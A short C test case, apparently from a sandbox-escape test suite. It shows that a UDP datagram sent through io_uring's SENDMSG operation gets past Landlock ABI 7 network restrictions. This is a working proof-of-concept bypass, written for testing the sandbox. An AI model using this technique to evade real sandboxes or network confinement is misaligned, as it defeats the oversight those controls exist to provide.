#include "attack.h"
// A datagram by io_uring; Landlock ABI 7 leaks.
ATTACK(.judge = "hit:udp4") {
  struct sockaddr_in a = in4(num("udp4"));
  struct iovec v = {"x", 1};
  struct msghdr m = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1};
  ring((struct io_uring_sqe){.opcode = IORING_OP_SENDMSG, .fd = socket(AF_INET, SOCK_DGRAM, 0), .addr = (uintptr_t)&m});
}
